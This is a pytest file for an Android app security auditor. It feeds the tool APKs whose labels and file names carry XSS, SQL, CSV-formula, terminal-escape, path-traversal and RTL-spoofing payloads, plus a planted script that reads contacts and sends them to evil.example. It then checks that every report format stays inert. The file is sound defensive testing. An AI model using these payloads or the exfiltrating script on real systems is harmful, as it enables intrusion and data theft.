"""Texts of adversaries from the package to every output: reports, store, site, ZIP, terminal.

The apps carry markup, formulas, SQL, escape sequences, directions and lone surrogates as label,
version, package, string, address and file name.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from lxml import etree, html

from auditor.cli import run
from tests.axml import E, axml, manifest, zipped
from tests.test_bad_input import sample
from tests.test_report_browser import CHROMIUM, FLAGS

PWN = "document.title='pwned'"
TEXTS = [
    f"<script>{PWN}</script>",
    f'"><img src=x onerror="{PWN}">',
    f"</script></style><svg onload={PWN}>",
    "'); DROP TABLE apps; --",
    '=HYPERLINK("http://evil.example","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\x1b]8;;http://evil.example\x07x\x1b[31m",
    "\u202egpj.exe\u2066",
    "{{7*7}}${7*7}#{7*7}",
    "lone \ud800 nul \0 end",
    f"javascript:{PWN}//http://evil.example/a.png",
]
NAMES = [
    "=cmd|calc.apk",
    "<img src=x onerror=alert(1)>.apk",
    "\u202egpj.apk",
    "a\nb\x1b[31m.apk",
    "'; DROP TABLE apps;--.apk",
    "%2e%2e%2fevil.apk",
]
FORMATS = "html,json,jsonl,sarif,csv,graphml,mmd"


def app(text: str) -> bytes:
    """The sample, its manifest saying `text` wherever a text may stand."""
    marked = text.replace("\ud800", "XSURX")
    activity = E("activity", {"name": "com.xinyijie.cash.MainActivity", "label": marked})
    meta = E("meta-data", {"name": marked, "value": marked})
    permission = E("uses-permission", {"name": "android.permission.READ_CONTACTS"})
    root = manifest(
        permission,
        E("application", {"label": marked}, (activity, meta)),
        package="com.evil.app",
    )
    document = axml(E(root.name, {**root.a, "versionName": marked}, root.children, root.plain))
    surrogate = ("XSURX".encode("utf-16-le"), "XXX\ud800X".encode("utf-16-le", "surrogatepass"))
    script = f"plus.contacts.getAddressBook();uni.request({{url:'https://evil.example/{marked}'}})"
    files = {**sample(), "AndroidManifest.xml": document.replace(*surrogate)}
    return zipped({**files, "assets/www/a.js": script.encode()})


@pytest.fixture(scope="module")
def apps(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("apps")
    for number, text in enumerate(TEXTS):
        name = NAMES[number] if number < len(NAMES) else f"{number}.apk"
        (folder / name).write_bytes(app(text))
    return folder


def live(page: str) -> list[str]:
    """What of a page could act: scripts, handlers, addresses that are fetched or run."""
    root = html.document_fromstring(page)
    found = [e.tag for e in root.iter("script", "iframe", "object", "embed", "base", "img", "form")]
    for element in root.iter(etree.Element):
        for name, value in element.attrib.items():
            if str(name).lower().startswith("on") or str(value).lower().startswith("javascript:"):
                found.append(repr((element.tag, name)))
    return found


def check(path: Path) -> None:
    """One report is valid in its format and holds nothing that acts."""
    text = path.read_bytes().decode("utf-8")
    assert "\0" not in text
    assert "\x1b" not in text
    if path.suffix == ".html":
        assert live(text) == []
    elif path.suffix in (".json", ".sarif"):
        json.loads(text)
    elif path.suffix == ".jsonl":
        assert [json.loads(line) for line in text.splitlines()]
    elif path.suffix == ".graphml":
        etree.fromstring(text.encode())
    elif path.suffix == ".csv":
        for row in csv.reader(io.StringIO(text)):
            assert [c for c in row if c.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    else:
        assert path.suffix == ".mmd"
        assert "<" not in text.replace("<br/>", "")


def test_reports(apps: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    files = sorted(map(str, apps.iterdir()))
    out = tmp_path / "out"
    assert run(["scan", "-f", FORMATS, "-o", str(out), "--lang", "en", *files]) == 0

    printed = capsys.readouterr()
    for line in (printed.out + printed.err).splitlines():
        assert line.isprintable()
        assert not re.search("[\u202a-\u202e\u2066-\u2069]", line)
    reports = sorted(out.iterdir())
    assert len(reports) == len(files) * len(FORMATS.split(","))
    assert [p for p in tmp_path.rglob("*") if p.is_file() and p.parent != out] == []
    for path in reports:
        assert path.name.isprintable()
        check(path)


@pytest.fixture(scope="module")
def store(apps: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    place = tmp_path_factory.mktemp("store") / "store.db"
    assert run(["batch", str(apps), "-s", str(place), "-q", "--workers", "2"]) == 0
    yield str(place)


def test_store_and_search(store: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """What is SQL stays a text, in what is stored and in what is asked."""
    for asked in TEXTS[:7]:
        run(["find", asked.replace("\0", ""), "-s", store, "--json"])
        for line in capsys.readouterr().out.splitlines():
            json.loads(line)
    whole = tmp_path / "whole.jsonl"
    assert run(["export", "-s", store, "-o", str(whole)]) == 0
    rows = [json.loads(line) for line in whole.read_text("utf-8").splitlines()]
    assert rows
    assert "DROP TABLE apps" in json.dumps(rows)


def test_evidence(apps: Path, tmp_path: Path) -> None:
    for number, path in enumerate(sorted(apps.iterdir())[:3]):
        made = tmp_path / f"{number}.zip"
        assert run(["evidence", str(path), "-o", str(made), "--with-app"]) == 0
        assert run(["verify", str(made)]) in (0, 4)
        with zipfile.ZipFile(made) as archive:
            for name in archive.namelist():
                assert name.isprintable()
                assert not name.startswith(("/", "\\"))
                assert ".." not in name.split("/")
            for name in archive.namelist():
                if name.endswith(".html"):
                    assert live(archive.read(name).decode()) == []


def test_site(store: str, tmp_path: Path) -> None:
    """Nothing of an app's runs in a browser, and nothing is asked for but the site's own files."""
    sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
    out = tmp_path / "site"
    assert run(["site", "-s", store, "-o", str(out), "-q", "--workers", "2"]) == 0
    pages = sorted(out.rglob("*.html"))
    assert len(pages) > len(TEXTS)
    if CHROMIUM is None:
        pytest.skip("no Chromium on this machine")
    asked: list[str] = []
    said: list[str] = []
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        page = browser.new_page()
        page.on("request", lambda request: asked.append(request.url))
        page.on("dialog", lambda dialog: said.append(dialog.message))
        for path in pages:
            page.goto(path.as_uri())
            assert page.title() != "pwned"
        browser.close()
    assert said == []
    assert [url for url in asked if not url.startswith(out.as_uri())] == []
